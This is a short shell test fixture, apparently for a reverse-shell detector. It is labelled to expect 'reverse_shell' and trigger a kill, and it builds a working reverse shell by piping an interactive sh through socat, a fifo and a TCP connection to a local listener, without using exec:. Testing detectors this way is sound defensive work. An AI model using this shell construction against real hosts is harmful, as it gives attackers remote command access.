# expect: reverse_shell
# action: kill
# about: a shell joined to a TCP connection by socat through a fifo and a pipe (no exec:)
exec 3< <("$PY" "$SCENARIO_LIB/listener.py")
read -r port <&3
f=$(mktemp -u "$PWD/f.XXXXXX")
mkfifo "$f"
sh -i < "$f" 2>&1 | socat - "TCP:127.0.0.1:$port" > "$f"
rm -f "$f"
